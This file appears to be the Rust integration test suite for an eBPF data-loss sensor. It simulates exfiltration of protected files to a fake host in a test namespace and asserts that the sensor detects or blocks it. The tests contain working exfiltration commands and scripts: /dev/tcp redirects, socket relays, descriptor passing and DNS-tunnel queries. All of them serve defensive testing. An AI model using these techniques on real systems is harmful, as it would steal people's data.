//! Exfiltration: protected data followed from the file through pipes and staging copies to
//! the network, reported as `detection.*` and refused with EPERM when the policy says deny.
//!
//! The fake external host ([`FakeHost`]) is a network namespace the test creates, joined by
//! a veth pair with test addresses; nothing else is a target. The egress programs attach
//! only to a child cgroup the test creates, and the senders run in it. Everything (namespace, link, cgroup, listeners) is removed on drop, also on failure.

use std::{
    fs,
    os::unix::fs::{MetadataExt as _, PermissionsExt as _},
    path::Path,
    thread,
    time::Duration,
};

use mnsensor_tests::{
    Sensor, TempDir,
    cgroup::Cgroup,
    fakehost::{FakeHost, UDP_SINK, exfil_to},
    get_str, get_u64, is, path_str, scaled, show, test_pid,
    users::{passwd_name, test_users},
};
use serde_json::Value;

/// A protected tree with `files` files of `size` bytes, an unprotected directory, and a
/// sensor running `policy` (its `egress:` section) with the egress programs on `cgroup`.
struct Setup {
    protected: TempDir,
    outside: TempDir,
    sensor: Sensor,
    // Dropped after the sensor (detached first).
    _conf: TempDir,
}

const SIZE: usize = 40_000;

fn setup(cgroup: &Cgroup, files: usize, egress: &str) -> Setup {
    let protected = TempDir::new("protected");
    for i in 0..files {
        protected.write(format!("mynumber-{i}.csv"), vec![b'7'; SIZE]);
    }
    let outside = TempDir::new("outside");
    outside.write("public.txt", vec![b'p'; SIZE]);
    let conf = TempDir::new("conf");
    let policy = conf.write(
        "policy.yaml",
        format!(
            "apiVersion: mnsensor/v1\nkind: AccessPolicy\nmetadata: {{name: exfil}}\nspec:\n  mode: audit\n  protect: [{{path: {}}}]\n  default: {{action: audit, severity: low}}\n  egress:\n{egress}",
            path_str(protected.path())
        ),
    );
    let config = conf.write("config.yaml", format!("egress_cgroup: {}\n", path_str(&cgroup.path)));
    let sensor = Sensor::start(&["--config", path_str(&config), "--policy", path_str(&policy)]);
    Setup { protected, outside, sensor, _conf: conf }
}

fn send_pipe(cg: &Cgroup, source: &Path, host: &FakeHost, port: u16) {
    let code =
        cg.run(&format!("cat {} | bash -c 'exec 3<>/dev/tcp/{}/{port}; cat >&3'", path_str(source), host.ip));
    assert_eq!(code, 0, "pipe send to port {port}");
}

/// `python3 -c PY_SENDFILE FILE HOST PORT`: sendfile(2) of the whole file over TCP.
const PY_SENDFILE: &str = "import socket, sys\nc = socket.create_connection((sys.argv[2], int(sys.argv[3])))\nc.sendfile(open(sys.argv[1], 'rb')); c.close()";
/// `python3 -c PY_UDP FILE HOST PORT`: three 1000-byte datagrams with sendto on an
/// unconnected socket.
const PY_UDP: &str = "import socket, sys\ndata = open(sys.argv[1], 'rb').read()\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor i in range(3): s.sendto(data[:1000], (sys.argv[2], int(sys.argv[3])))";

/// `python3 relay.py KIND WHERE HOST PORT`: listens on a unix socket (KIND `unix`, WHERE a
/// path, or `@name` for an abstract one) or on 127.0.0.1 (KIND `tcp`, WHERE the port),
/// accepts one connection, reads it to the end with recv, and sends everything to HOST:PORT.
const PY_RELAY: &str = "import socket, sys
kind, where = sys.argv[1], sys.argv[2]
if kind == 'unix':
    u = socket.socket(socket.AF_UNIX); u.bind(chr(0) + where[1:] if where[0] == '@' else where)
else:
    u = socket.socket(); u.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); u.bind(('127.0.0.1', int(where)))
u.listen(1)
c, _ = u.accept()
data = b''
while True:
    b = c.recv(65536)
    if not b: break
    data += b
o = socket.create_connection((sys.argv[3], int(sys.argv[4]))); o.sendall(data); o.close()
";
/// `python3 client.py KIND WHERE [splice]`: connects to the relay (retrying until it listens)
/// and sends its stdin in two halves, 0.2 s apart (see docs/detections.md, "Relays": a
/// receiver that reads the data before the sender's call returns is not seen); with `splice`
/// it splices the stdin pipe into the socket the same way.
const PY_CLIENT: &str = "import os, socket, sys, time
kind, where = sys.argv[1], sys.argv[2]
splice = sys.argv[3:] == ['splice']
data = b'' if splice else sys.stdin.buffer.read()
for _ in range(200):
    try:
        if kind == 'unix':
            u = socket.socket(socket.AF_UNIX); u.connect(chr(0) + where[1:] if where[0] == '@' else where)
        else:
            u = socket.create_connection(('127.0.0.1', int(where)))
        break
    except OSError:
        time.sleep(0.05)
if splice:
    os.splice(0, u.fileno(), 20000); time.sleep(0.2)
    while os.splice(0, u.fileno(), 65536) > 0: pass
    u.close(); sys.exit()
half = len(data) // 2
u.sendall(data[:half]); time.sleep(0.2); u.sendall(data[half:]); u.close()
";

#[test]
fn pipe_and_staging_copy_are_detected_and_untainted_is_not() {
    if mnsensor_tests::in_vm() {
        mnsensor_tests::skip!("the busybox guest's `ip` cannot make the test's network namespace");
    }
    let cg = Cgroup::new();
    let host = FakeHost::new(&[9101, 9102, 9103, 9104, 9106]);
    let mut s = setup(&cg, 1, "    action: alert\n");
    let file = s.protected.join("mynumber-0.csv");

    // Untainted: a public file through the same pipe.
    send_pipe(&cg, &s.outside.join("public.txt"), &host, 9101);
    // Tainted: cat reads the protected file, the pipe carries the taint to the sender.
    send_pipe(&cg, &file, &host, 9102);
    assert_eq!(host.received_n(9102, 1), vec![SIZE as u64]);
    let d = s.sensor.wait_for("exfiltration through the pipe", exfil_to(9102));
    assert_eq!(get_str(&d, "destination.address"), host.ip, "{}", show(&d));
    assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), SIZE as u64, "{}", show(&d));
    assert_eq!(get_str(&d, "mnsensor.detection.action"), "alert");
    assert_eq!(get_u64(&d, "mnsensor.taint.hops"), 1, "one pipe between file and sender: {}", show(&d));

    // Staging: a copy outside the protected tree, sent later by another process.
    let copy = s.outside.join("copy.csv");
    let code = cg.run(&format!("cp {} {}", path_str(&file), path_str(&copy)));
    assert_eq!(code, 0);
    let st = s.sensor.wait_for("staging copy", |e| is(e, "detection.staging"));
    assert!(show(&st).contains("copy.csv"), "derived file named: {}", show(&st));
    let code = cg.run(&format!("bash -c 'exec 3<>/dev/tcp/{}/9103; cat {} >&3'", host.ip, path_str(&copy)));
    assert_eq!(code, 0);
    let d = s.sensor.wait_for("exfiltration of the staging copy", exfil_to(9103));
    assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), SIZE as u64, "{}", show(&d));

    // sendfile straight from the protected file to the socket, and unconnected UDP.
    let code = cg.run(&format!("python3 -c \"{PY_SENDFILE}\" {} {} 9104", path_str(&file), host.ip));
    assert_eq!(code, 0);
    let d = s.sensor.wait_for("exfiltration by sendfile", exfil_to(9104));
    assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), SIZE as u64, "{}", show(&d));
    assert_eq!(get_u64(&d, "mnsensor.taint.hops"), 0, "{}", show(&d));
    let code = cg.run(&format!("python3 -c \"{PY_UDP}\" {} {} 9105", path_str(&file), host.ip));
    assert_eq!(code, 0);
    let d = s.sensor.wait_for("exfiltration over unconnected UDP", exfil_to(9105));
    assert_eq!(get_str(&d, "network.transport"), "udp", "{}", show(&d));
    assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), 3 * 1000, "{}", show(&d));

    // A relay: the tainted client hands the data over a unix socket to another process,
    // which sends it out.
    let relay = s.outside.write("relay.py", PY_RELAY);
    let client = s.outside.write("client.py", PY_CLIENT);
    let sock = s.outside.join("relay.sock");
    let code = cg.run(&format!(
        "python3 {relay} unix {sock} {ip} 9106 & cat {file} | python3 {client} unix {sock}; wait",
        relay = path_str(&relay),
        client = path_str(&client),
        sock = path_str(&sock),
        ip = host.ip,
        file = path_str(&file),
    ));
    assert_eq!(code, 0);
    assert_eq!(host.received_n(9106, 1), vec![SIZE as u64]);
    let d = s.sensor.wait_for("exfiltration through a unix-socket relay", exfil_to(9106));
    assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), SIZE as u64, "{}", show(&d));
    assert_eq!(get_u64(&d, "mnsensor.taint.hops"), 2, "pipe, then unix socket: {}", show(&d));
    assert_eq!(get_str(&d, "mnsensor.taint.origin.name"), "cat", "{}", show(&d));

    // An archiver reading protected files is staging in itself (and its archive is a
    // derived file).
    let archive = s.outside.join("out.tgz");
    let code = cg.run(&format!("tar czf {} -C {} .", path_str(&archive), path_str(s.protected.path())));
    assert_eq!(code, 0);
    let st = s.sensor.wait_for("archiver staging", |e| {
        is(e, "detection.staging") && e.get("mnsensor.process.comm").and_then(Value::as_str) == Some("tar")
    });
    assert!(get_u64(&st, "mnsensor.taint.bytes_read") >= SIZE as u64, "{}", show(&st));

    // A raw socket opened by a tainted process.
    let code = cg.run(&format!(
        "python3 -c \"import socket, sys; open(sys.argv[1], 'rb').read(); socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\" {}",
        path_str(&file)
    ));
    assert_eq!(code, 0);
    s.sensor.wait_for("raw socket of a tainted process", |e| is(e, "egress.raw_socket"));

    // By now the untainted send has long been polled.
    thread::sleep(scaled(Duration::from_secs(2)));
    s.sensor.assert_none("detection for the untainted sender", exfil_to(9101));
    s.sensor.stop();
}

#[test]
fn relays_run_by_another_user_are_attributed_to_the_originating_user() {
    if mnsensor_tests::in_vm() {
        mnsensor_tests::skip!("the busybox guest's `ip` cannot make the test's network namespace");
    }
    let cg = Cgroup::new();
    let host = FakeHost::new(&[9301, 9302, 9303]);
    let users = test_users("relays_run_by_another_user", 2);
    let (relay_user, login_user) = (&users[0], &users[1]);
    let mut s = setup(&cg, 1, "    action: alert\n");
    let file = s.protected.join("mynumber-0.csv");
    // The relay user reads the scripts: the directory is world-readable.
    fs::set_permissions(s.outside.path(), fs::Permissions::from_mode(0o755)).expect("chmod outside");
    let relay = s.outside.write("relay.py", PY_RELAY);
    let client = s.outside.write("client.py", PY_CLIENT);
    // The originating user: this test's own (cat runs as it), logged in as `login_user`
    // (cat's subshell sets its login uid, as a login would).
    let origin_uid = fs::metadata("/proc/self").expect("stat /proc/self").uid();
    let origin_name = passwd_name(origin_uid);
    assert_ne!(origin_uid, relay_user.uid);
    let listen_port = 19_000 + (test_pid() % 1000) as u16;
    let abstract_name = format!("@mnsensor-relay-{}", test_pid());
    // The third client splices the pipe into the loopback socket (splice, not send).
    for (kind, place, port, how) in [
        ("unix", abstract_name, 9301, ""),
        ("tcp", listen_port.to_string(), 9302, ""),
        ("tcp", (listen_port + 1).to_string(), 9303, "splice"),
    ] {
        let code = cg.run(&format!(
            "setpriv --reuid={uid} --regid={gid} --clear-groups /usr/bin/python3 {relay} {kind} {place} {ip} {port} & \
             (echo {auid} > /proc/self/loginuid && exec cat {file}) | python3 {client} {kind} {place} {how}; wait",
            uid = relay_user.uid,
            gid = relay_user.gid,
            auid = login_user.uid,
            relay = path_str(&relay),
            client = path_str(&client),
            ip = host.ip,
            file = path_str(&file),
        ));
        assert_eq!(code, 0, "{kind} {how} relay");
        assert_eq!(host.received_n(port, 1), vec![SIZE as u64], "{kind} {how} relay delivered");
        let d = s.sensor.wait_for(&format!("exfiltration through a {kind} {how} relay"), exfil_to(port));
        let what = format!("{kind} {how} relay: {}", show(&d));
        assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), SIZE as u64, "{what}");
        assert_eq!(get_u64(&d, "process.real_user.id"), u64::from(relay_user.uid), "{what}");
        assert_eq!(get_str(&d, "process.real_user.name"), relay_user.name, "{what}");
        assert_eq!(get_str(&d, "mnsensor.taint.origin.user.name"), origin_name, "{what}");
        assert_eq!(get_u64(&d, "mnsensor.login_user.id"), u64::from(login_user.uid), "{what}");
        assert_eq!(get_str(&d, "mnsensor.login_user.name"), login_user.name, "{what}");
        assert_eq!(get_str(&d, "mnsensor.process.comm"), "python3", "{what}");
        assert_eq!(get_u64(&d, "mnsensor.taint.origin.user.id"), u64::from(origin_uid), "{what}");
        assert_eq!(get_str(&d, "mnsensor.taint.origin.name"), "cat", "{what}");
        assert_eq!(get_u64(&d, "mnsensor.taint.hops"), 2, "pipe, then the relay's socket: {what}");
    }
    // The client's loopback connection is a hand-off, not egress.
    thread::sleep(scaled(Duration::from_secs(2)));
    s.sensor.assert_none("detection for the loopback hop", exfil_to(listen_port));
    s.sensor.assert_none("detection for the spliced loopback hop", exfil_to(listen_port + 1));
    s.sensor.stop();
}

/// `python3 pass.py FILE HOST PORT MODE PIDFILE`: a forked child (untainted: it exists
/// before the file is opened) gets the parent's descriptor of FILE, over SCM_RIGHTS (MODE
/// `scm`) or with pidfd_getfd (MODE `pidfd`), reads the file through it and sends it to
/// HOST:PORT. The parent never reads; it writes the child's pid to PIDFILE.
const PY_PASS: &str = "import ctypes, os, socket, sys
f, host, port, mode, pidfile = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5]
a, b = socket.socketpair()
pid = os.fork()
if pid == 0:
    a.close()
    if mode == 'scm':
        fd = socket.recv_fds(b, 1, 1)[1][0]
    else:
        target, num = [int(x) for x in b.recv(64).split()]
        fd = ctypes.CDLL(None, use_errno=True).syscall(438, os.pidfd_open(target), num, 0)
        if fd < 0: sys.exit('pidfd_getfd: errno %d' % ctypes.get_errno())
    data = b''
    while chunk := os.read(fd, 65536): data += chunk
    c = socket.create_connection((host, port)); c.sendall(data); c.close()
    b.send(b'done')
    os._exit(0)
b.close()
open(pidfile, 'w').write(str(pid))
fd = os.open(f, os.O_RDONLY)
if mode == 'scm': socket.send_fds(a, [b'x'], [fd])
else: a.send(b'%d %d' % (os.getpid(), fd))
a.recv(4)
sys.exit(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))
";

#[test]
fn a_received_descriptor_taints_the_receiver_that_reads_it() {
    if mnsensor_tests::in_vm() {
        mnsensor_tests::skip!("the busybox guest's `ip` cannot make the test's network namespace");
    }
    let cg = Cgroup::new();
    let host = FakeHost::new(&[9501, 9502]);
    let mut s = setup(&cg, 1, "    action: alert\n");
    let file = s.protected.join("mynumber-0.csv");
    let script = s.outside.write("pass.py", PY_PASS);
    for (mode, port) in [("scm", 9501), ("pidfd", 9502)] {
        let pidfile = s.outside.path().join(format!("{mode}.pid"));
        let code = cg.run(&format!(
            "python3 {} {} {} {port} {mode} {}",
            path_str(&script),
            path_str(&file),
            host.ip,
            path_str(&pidfile)
        ));
        assert_eq!(code, 0, "pass.py {mode}");
        assert_eq!(host.received_n(port, 1), vec![SIZE as u64], "{mode}: delivered");
        let child: u64 = fs::read_to_string(&pidfile).expect("pid file").trim().parse().expect("pid");
        let d = s.sensor.wait_for(&format!("exfiltration by the {mode} receiver"), exfil_to(port));
        let what = format!("{mode}: {}", show(&d));
        assert_eq!(get_u64(&d, "process.pid"), child, "{what}");
        assert_eq!(
            get_u64(&d, "mnsensor.taint.origin.pid"),
            child,
            "the receiver read the file itself: {what}"
        );
        assert_eq!(get_u64(&d, "mnsensor.taint.hops"), 0, "{what}");
        assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), SIZE as u64, "{what}");
    }
    s.sensor.stop();
}

/// `python3 dns.py FILE HOST MODE NAME…`: reads FILE unless MODE is `clean`, then sends one
/// A query per NAME to HOST:53, over UDP (sendto, unconnected) or, MODE `tcp`, over TCP.
const PY_DNS: &str = "import socket, struct, sys
f, host, mode = sys.argv[1:4]
if mode != 'clean': open(f, 'rb').read()
def query(name):
    m = struct.pack('>HHHHHH', 1, 0x100, 1, 0, 0, 0)
    for l in name.split('.'): m += bytes([len(l)]) + l.encode()
    return m + bytes([0, 0, 1, 0, 1])
for name in sys.argv[4:]:
    m = query(name)
    if mode == 'tcp':
        c = socket.create_connection((host, 53)); c.sendall(struct.pack('>H', len(m)) + m); c.close()
    else:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(m, (host, 53))
";

fn dns_for(domain: &'static str) -> impl Fn(&Value) -> bool {
    move |e| {
        is(e, "detection.dns_tunnel") && e.get("mnsensor.dns.domain").and_then(Value::as_str) == Some(domain)
    }
}

#[test]
fn dns_queries_of_a_tainted_process_signal_long_high_entropy_labels() {
    if mnsensor_tests::in_vm() {
        mnsensor_tests::skip!("the busybox guest's `ip` cannot make the test's network namespace");
    }
    let cg = Cgroup::new();
    // TCP/53 is the fake host's TCP sink; UDP/53 a datagram sink.
    let mut host = FakeHost::new(&[53]);
    let address = host.ip.clone();
    host.sink(UDP_SINK, &address, 53, "udp-53");
    let udp_out = host.dir.join("udp-53");
    let mut s = setup(&cg, 1, "    action: alert\n");
    let file = s.protected.join("mynumber-0.csv");
    let script = s.outside.write("dns.py", PY_DNS);
    // 32 base32 characters (5 bits each): what a tunnel puts in a label.
    let tunnel = "mfrggzdfmztwq2lknnwg23tpobyxe43u";
    let run = |mode: &str, names: &[String]| {
        let code = cg.run(&format!(
            "python3 {} {} {} {mode} {}",
            path_str(&script),
            path_str(&file),
            host.ip,
            names.join(" ")
        ));
        assert_eq!(code, 0, "dns.py {mode} {names:?}");
    };
    run(
        "tainted",
        &["www.example.test".into(), "mail.example.test".into(), format!("{tunnel}.example.test")],
    );
    run("clean", &[format!("{tunnel}.clean.test")]);
    run("tainted", &["www.normal.test".into(), "mail.normal.test".into()]);
    run("tcp", &[format!("{}.tcp.test", "a".repeat(45))]);
    let got = || fs::read_to_string(&udp_out).unwrap_or_default().lines().count();
    for _ in 0..100 {
        if got() >= 6 {
            break;
        }
        thread::sleep(Duration::from_millis(50));
    }
    assert_eq!(got(), 6, "datagrams at the fake DNS server");

    let d = s.sensor.wait_for("DNS tunnel label over UDP", dns_for("example.test"));
    let what = show(&d);
    assert_eq!(get_str(&d, "dns.question.name"), format!("{tunnel}.example.test"), "{what}");
    assert_eq!(get_u64(&d, "mnsensor.dns.queries"), 3, "two normal queries counted before it: {what}");
    assert_eq!(get_u64(&d, "mnsensor.dns.label_length"), tunnel.len() as u64, "{what}");
    assert_eq!(get_str(&d, "network.transport"), "udp", "{what}");
    assert_eq!(get_str(&d, "destination.address"), host.ip, "{what}");
    assert_eq!(get_u64(&d, "destination.port"), 53, "{what}");
    let d = s.sensor.wait_for("DNS long label over TCP", dns_for("tcp.test"));
    assert_eq!(get_str(&d, "network.transport"), "tcp", "{}", show(&d));
    assert_eq!(get_u64(&d, "mnsensor.dns.label_length"), 45, "{}", show(&d));
    thread::sleep(scaled(Duration::from_secs(2)));
    s.sensor.assert_none("signal for normal names", dns_for("normal.test"));
    s.sensor.assert_none("signal for an untainted process", dns_for("clean.test"));
    s.sensor.stop();
}

#[test]
fn dns_thresholds_come_from_the_policy() {
    if mnsensor_tests::in_vm() {
        mnsensor_tests::skip!("the busybox guest's `ip` cannot make the test's network namespace");
    }
    let cg = Cgroup::new();
    let mut host = FakeHost::new(&[]);
    let address = host.ip.clone();
    host.sink(UDP_SINK, &address, 53, "udp-53");
    let udp_out = host.dir.join("udp-53");
    // Defaults would signal the 45-character label (40) and not four short queries (500).
    let mut s = setup(&cg, 1, "    action: alert\n    dns_tunnel: {long_label: 50, queries: 4}\n");
    let file = s.protected.join("mynumber-0.csv");
    let script = s.outside.write("dns.py", PY_DNS);
    let mut names = vec![format!("{}.long.test", "a".repeat(45))];
    names.extend((1..=4).map(|i| format!("q{i}.count.test")));
    let code = cg.run(&format!(
        "python3 {} {} {} tainted {}",
        path_str(&script),
        path_str(&file),
        host.ip,
        names.join(" ")
    ));
    assert_eq!(code, 0, "dns.py");
    let got = || fs::read_to_string(&udp_out).unwrap_or_default().lines().count();
    for _ in 0..100 {
        if got() >= names.len() {
            break;
        }
        thread::sleep(Duration::from_millis(50));
    }
    assert_eq!(got(), names.len(), "datagrams at the fake DNS server");
    let d = s.sensor.wait_for("query count over the policy's threshold", dns_for("count.test"));
    let what = show(&d);
    assert_eq!(get_str(&d, "dns.question.name"), "q4.count.test", "the fourth query fires: {what}");
    assert_eq!(get_u64(&d, "mnsensor.dns.queries"), 4, "{what}");
    assert_eq!(get_u64(&d, "mnsensor.dns.label_length"), 0, "no label fired: {what}");
    thread::sleep(scaled(Duration::from_secs(2)));
    s.sensor.assert_none("a 45-character label under long_label 50", dns_for("long.test"));
    s.sensor.stop();
}

/// Selects the io_uring sender mode of this binary: "FILE ADDRESS PORT".
const URING_ENV: &str = "MNSENSOR_EXFIL_URING";

#[test]
fn io_uring_connect_and_send_are_detected_with_their_bytes() {
    if mnsensor_tests::in_vm() {
        mnsensor_tests::skip!("the busybox guest's `ip` cannot make the test's network namespace");
    }
    let cg = Cgroup::new();
    let host = FakeHost::new(&[9401]);
    let mut s = setup(&cg, 1, "    action: alert\n");
    let file = s.protected.join("mynumber-0.csv");
    let exe = std::env::current_exe().expect("test binary");
    // This binary re-executed in the cgroup runs only `io_uring_sender` (below).
    let code = cg.run(&format!(
        "{URING_ENV}='{} {} 9401' {} --ignored --exact io_uring_sender",
        path_str(&file),
        host.ip,
        path_str(&exe)
    ));
    assert_eq!(code, 0, "io_uring sender");
    assert_eq!(host.received_n(9401, 1), vec![SIZE as u64]);
    let d = s.sensor.wait_for("exfiltration by io_uring", exfil_to(9401));
    // No send syscall carried these bytes: they were counted on the socket's packets.
    assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), SIZE as u64, "{}", show(&d));
    assert_eq!(get_str(&d, "destination.address"), host.ip, "{}", show(&d));
    assert_eq!(get_str(&d, "network.transport"), "tcp", "{}", show(&d));
    s.sensor.stop();
}

/// The io_uring sender: reads the protected file with read(2), then connects and sends it
/// with io_uring requests only. Runs only when [`URING_ENV`] is set.
#[test]
#[ignore = "helper of io_uring_connect_and_send_are_detected_with_their_bytes"]
fn io_uring_sender() {
    use io_uring::{IoUring, opcode, types};
    let Ok(spec) = std::env::var(URING_ENV) else { return };
    let parts: Vec<&str> = spec.split(' ').collect();
    let data = fs::read(parts[0]).expect("read the protected file");
    let ip: std::net::Ipv4Addr = parts[1].parse().expect("address");
    let port: u16 = parts[2].parse().expect("port");
    // SAFETY: plain socket(2); the descriptor is closed below.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_STREAM, 0) };
    assert!(fd >= 0, "socket: {}", std::io::Error::last_os_error());
    let addr = libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: port.to_be(),
        sin_addr: libc::in_addr { s_addr: u32::from_ne_bytes(ip.octets()) },
        sin_zero: [0; 8],
    };
    let mut ring = IoUring::new(4).expect("io_uring_setup");
    let mut submit = |entry: io_uring::squeue::Entry| -> i32 {
        // SAFETY: the buffers the entry points to live until its completion is reaped here.
        unsafe { ring.submission().push(&entry).expect("queue full") };
        ring.submit_and_wait(1).expect("io_uring_enter");
        ring.completion().next().expect("a completion").result()
    };
    let connect = opcode::Connect::new(
        types::Fd(fd),
        (&raw const addr).cast::<libc::sockaddr>(),
        size_of::<libc::sockaddr_in>() as libc::socklen_t,
    );
    assert_eq!(submit(connect.build()), 0, "io_uring connect");
    let mut at = 0;
    while at < data.len() {
        let send = opcode::Send::new(types::Fd(fd), data[at..].as_ptr(), (data.len() - at) as u32);
        let n = submit(send.build());
        assert!(n > 0, "io_uring send: {n}");
        at += n as usize;
    }
    // SAFETY: our descriptor.
    unsafe { libc::close(fd) };
}

#[test]
fn deny_refuses_a_tainted_connect_with_eperm_but_not_to_an_allowed_destination() {
    if mnsensor_tests::in_vm() {
        mnsensor_tests::skip!("the busybox guest's `ip` cannot make the test's network namespace");
    }
    let cg = Cgroup::new();
    let host = FakeHost::new(&[9201, 9202]);
    let egress = format!(
        "    action: deny\n    allow:\n      - {{network: {}/32, ports: [9202]}}\n",
        // The address is only known once the host exists.
        host.ip
    );
    let mut s = setup(&cg, 1, &egress);
    let file = s.protected.join("mynumber-0.csv");
    // Exit 0: sent; 13: the connect failed with EPERM.
    let client = "import socket, sys\ndata = open(sys.argv[1], 'rb').read()\ntry:\n    c = socket.create_connection((sys.argv[2], int(sys.argv[3])), timeout=5)\n    c.sendall(data); c.close()\nexcept PermissionError:\n    sys.exit(13)";
    let run = |source: &Path, port: u16| {
        cg.run(&format!("python3 -c \"{client}\" {} {} {port}", path_str(source), host.ip))
    };
    assert_eq!(run(&file, 9201), 13, "connect to a destination not allowed");
    assert_eq!(run(&file, 9202), 0, "connect to the allowed destination");
    // The same destination written as an IPv4-mapped IPv6 address is the same destination.
    let mapped = format!("::ffff:{}", host.ip);
    let code = cg.run(&format!("python3 -c \"{client}\" {} {mapped} 9203", path_str(&file)));
    assert_eq!(code, 13, "connect to an IPv4-mapped address not allowed");
    let d = s.sensor.wait_for("refused IPv4-mapped connect", exfil_to(9203));
    assert_eq!(get_str(&d, "destination.address"), host.ip, "normalised to IPv4: {}", show(&d));
    assert!(host.received(9201).is_empty());
    let d = s.sensor.wait_for("refused exfiltration", exfil_to(9201));
    assert_eq!(get_str(&d, "mnsensor.detection.action"), "deny", "{}", show(&d));
    assert_eq!(get_str(&d, "destination.address"), host.ip);
    // An untainted process is never refused.
    assert_eq!(run(&s.outside.join("public.txt"), 9201), 0, "untainted connect");
    assert_eq!(host.received_n(9201, 1), vec![SIZE as u64]);
    thread::sleep(scaled(Duration::from_secs(2)));
    s.sensor.assert_none("detection for the allowed destination", exfil_to(9202));
    s.sensor.stop();
}

#[test]
fn bulk_read_above_threshold_is_detected_once() {
    let cg = Cgroup::new();
    let mut s = setup(&cg, 8, "    bulk_read: {files: 5}\n");
    let read = |range: std::ops::Range<usize>| {
        for i in range {
            let code = cg.run(&format!(
                "cat {} > /dev/null",
                path_str(&s.protected.join(format!("mynumber-{i}.csv")))
            ));
            assert_eq!(code, 0);
        }
    };
    read(0..4);
    thread::sleep(scaled(Duration::from_secs(3)));
    s.sensor.assert_none("bulk read below the threshold", |e| is(e, "detection.bulk_read"));
    read(4..8);
    let d = s.sensor.wait_for("bulk read", |e| is(e, "detection.bulk_read"));
    assert!(get_u64(&d, "mnsensor.taint.files_read") >= 5, "{}", show(&d));
    thread::sleep(scaled(Duration::from_secs(2)));
    let n = s.sensor.matching(|e| is(e, "detection.bulk_read")).len();
    assert_eq!(n, 1, "one detection per episode");
    s.sensor.stop();
}

#[test]
fn slow_drip_adds_up_split_connections_once() {
    if mnsensor_tests::in_vm() {
        mnsensor_tests::skip!("the busybox guest's `ip` cannot make the test's network namespace");
    }
    let cg = Cgroup::new();
    let host = FakeHost::new(&[9301]);
    // Each send stays far below the exfiltration threshold; three of them exceed the budget.
    let budget = 2 * SIZE as u64 + SIZE as u64 / 2;
    let mut s = setup(&cg, 1, &format!("    min_bytes: 1000000\n    slow_drip: {{bytes: {budget}}}\n"));
    let file = s.protected.join("mynumber-0.csv");
    let send = |n: usize| {
        let code =
            cg.run(&format!("bash -c 'exec 3<>/dev/tcp/{}/9301; cat {} >&3'", host.ip, path_str(&file)));
        assert_eq!(code, 0);
        host.received_n(9301, n).iter().sum::<u64>()
    };
    let drip = |e: &Value| is(e, "detection.slow_drip");
    send(1);
    let below = send(2);
    assert!(below <= budget);
    thread::sleep(scaled(Duration::from_secs(3)));
    s.sensor.assert_none("slow drip below the budget", drip);
    let total = send(3);
    assert!(total > budget);
    let d = s.sensor.wait_for("slow drip over the budget", drip);
    assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), total, "{}", show(&d));
    assert_eq!(get_str(&d, "destination.address"), host.ip, "{}", show(&d));
    assert_eq!(get_u64(&d, "destination.port"), 9301, "{}", show(&d));
    assert_eq!(get_u64(&d, "mnsensor.egress.processes"), 3, "three senders: {}", show(&d));
    assert_eq!(get_u64(&d, "mnsensor.egress.budget_bytes"), budget, "{}", show(&d));
    send(4);
    thread::sleep(scaled(Duration::from_secs(3)));
    assert_eq!(s.sensor.matching(drip).len(), 1, "one detection per episode");
    s.sensor.assert_none("exfiltration below its threshold", exfil_to(9301));
    s.sensor.stop();
}

/// The programs that cut a connection opened before the taint (docs/detections.md, "Egress
/// control") are attached under `action: deny` only, one per send syscall, so each kernel's
/// verifier has to accept them (this test runs in the VMs; exfil_ways cuts real connections
/// on the host).
#[test]
fn the_cut_programs_are_attached_under_deny_only() {
    const CUT: [&str; 7] = [
        "cut_enter_write@tracepoint/syscalls/sys_enter_write",
        "cut_enter_writev@tracepoint/syscalls/sys_enter_writev",
        "cut_enter_sendto@tracepoint/syscalls/sys_enter_sendto",
        "cut_enter_sendmsg@tracepoint/syscalls/sys_enter_sendmsg",
        "cut_enter_sendmmsg@tracepoint/syscalls/sys_enter_sendmmsg",
        "cut_enter_sendfile64@tracepoint/syscalls/sys_enter_sendfile64",
        "cut_enter_splice@tracepoint/syscalls/sys_enter_splice",
    ];
    for (action, expected) in [("deny", &CUT[..]), ("alert", &[][..])] {
        let cg = Cgroup::new();
        let mut s = setup(&cg, 1, &format!("    action: {action}\n"));
        let programs = mnsensor_tests::get_str_array(s.sensor.start_event(), "mnsensor.bpf.programs");
        let cut: Vec<&str> =
            programs.iter().map(String::as_str).filter(|p| p.starts_with("cut_enter_")).collect();
        assert_eq!(cut, expected, "action {action}: {programs:?}");
        s.sensor.stop();
    }
}
